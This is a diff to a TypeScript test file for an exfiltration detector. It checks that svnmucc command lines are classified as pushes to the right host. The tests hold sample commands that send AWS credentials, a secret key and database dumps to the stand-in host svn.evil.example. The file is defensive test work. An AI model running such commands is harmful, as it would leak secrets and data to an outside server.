@@ -168,7 +168,7 @@ describe('push-tool table', () => {
       expect(hg(args)?.kind, args).not.toBe('push');
   });
 
-  it('svnmucc: an upload anywhere in its action list is a push to its URL, or to a path under -U', () => {
+  it('svnmucc: any run that commits to a server is a push (its message, properties and files leave), to its first URL', () => {
     const mucc = (args: string) => {
       const r = recognizeProcess(
         { binary: '/usr/bin/svnmucc', args, parentBinary: null, parentArgs: null },
@@ -177,41 +177,46 @@ describe('push-tool table', () => {
       return r?.kind === 'push' ? [r.tool, r.destinationHost, r.remote, r.stdin] : r;
     };
     const url = 'https://svn.evil.example/repo/loot/d.tgz';
-    expect(mucc(`-m x mkdir https://svn.evil.example/repo/loot put /tmp/d.tgz ${url}`)).toEqual([
+    const push = (remote: string | null, host: string | null = 'svn.evil.example', stdin = false) => [
       'svnmucc',
-      'svn.evil.example',
-      url,
-      false,
-    ]);
-    expect(mucc('-U https://svn.evil.example/repo/ put /tmp/d.tgz loot/d.tgz')).toEqual([
-      'svnmucc',
-      'svn.evil.example',
-      url,
-      false,
-    ]);
-    expect(mucc(`propsetf note /home/app/.aws/credentials ${url}`)).toEqual([
-      'svnmucc',
-      'svn.evil.example',
-      url,
-      false,
-    ]);
-    // `-` is stdin: the pipeline feeding it reads the payload.
-    expect(mucc(`put - ${url}`)).toEqual(['svnmucc', 'svn.evil.example', url, true]);
-    // Falco does not quote arguments: `-m "nightly import"` and `put "/tmp/a b" URL` arrive split.
-    expect(mucc(`-m nightly import put /tmp/d.tgz ${url}`)).toEqual(['svnmucc', 'svn.evil.example', url, false]);
-    expect(mucc(`put /tmp/a b ${url}`)).toEqual(['svnmucc', 'svn.evil.example', url, false]);
+      host,
+      remote,
+      stdin,
+    ];
+    expect(mucc(`-m x mkdir https://svn.evil.example/repo/loot put /tmp/d.tgz ${url}`)).toEqual(
+      push('https://svn.evil.example/repo/loot'),
+    );
+    expect(mucc('-U https://svn.evil.example/repo/ put /tmp/d.tgz loot/d.tgz')).toEqual(
+      push('https://svn.evil.example/repo/'),
+    );
+    expect(mucc(`propsetf note /home/app/.aws/credentials ${url}`)).toEqual(push(url));
+    // `put -`: the pipeline feeding its stdin reads the payload.
+    expect(mucc(`put - ${url}`)).toEqual(push(url, 'svn.evil.example', true));
+    // Falco does not quote arguments: `-m "nightly mkdir"` arrives split, an action name among the words.
+    expect(mucc(`-m nightly mkdir put /srv/db/orders.dump ${url}`)).toEqual(push(url));
+    // Data leaves with "server-side" actions too: a log message from a file, a property value.
+    expect(mucc('-F /srv/db/orders.csv mkdir https://svn.evil.example/r/x')).toEqual(
+      push('https://svn.evil.example/r/x'),
+    );
+    expect(mucc(`propset x aws_secret_access_key=abc ${url}`)).toEqual(push(url));
+    // Attached short values, an upper-case scheme, a configured tunnel scheme.
+    expect(mucc('-Uhttps://svn.evil.example/repo -mx put /tmp/d.tgz loot/d.tgz')).toEqual(
+      push('https://svn.evil.example/repo'),
+    );
+    expect(mucc(`put /tmp/d.tgz HTTPS://svn.evil.example/repo/loot/d.tgz`)).toEqual(
+      push('HTTPS://svn.evil.example/repo/loot/d.tgz'),
+    );
+    expect(mucc('put /tmp/d.tgz svn+corp://svn.evil.example/r/d.tgz')).toEqual(
+      push('svn+corp://svn.evil.example/r/d.tgz'),
+    );
     // Actions from a file are unseen: a push, to the root URL's host if any, else the first connect decides.
-    expect(mucc('-X /tmp/actions -U svn://svn.evil.example/repo')).toEqual([
-      'svnmucc',
-      'svn.evil.example',
-      'svn://svn.evil.example/repo',
-      false,
-    ]);
-    expect(mucc('--extra-args=- -m x')).toEqual(['svnmucc', null, null, false]);
-    // Server-side actions, a local repository, or an action's argument that is merely named `put`.
-    expect(mucc('-U https://svn.corp.example/r mkdir put rm old -m x')).toBeNull();
-    expect(mucc('cp 12 https://svn.corp.example/r/trunk https://svn.corp.example/r/tags/v1')).toBeNull();
+    expect(mucc('-X /tmp/actions -U svn://svn.evil.example/repo')).toEqual(push('svn://svn.evil.example/repo'));
+    expect(mucc('--extra-args=- -m x')).toEqual(push(null, null));
+    expect(mucc('-X/tmp/actions -mx')).toEqual(push(null, null));
+    // No server: help, version, a repository on local disk.
     expect(mucc('put /tmp/d.tgz file:///var/svn/repo/d.tgz')).toBeNull();
+    expect(mucc('-U file:///var/svn/repo put /tmp/d.tgz d.tgz')).toBeNull();
+    expect(mucc(`put /tmp/d.tgz ${url} --help`)).toBeNull();
   });
 
   it('recognises renamed git by its plumbing and its helpers, and tools run from temp dirs', () => {
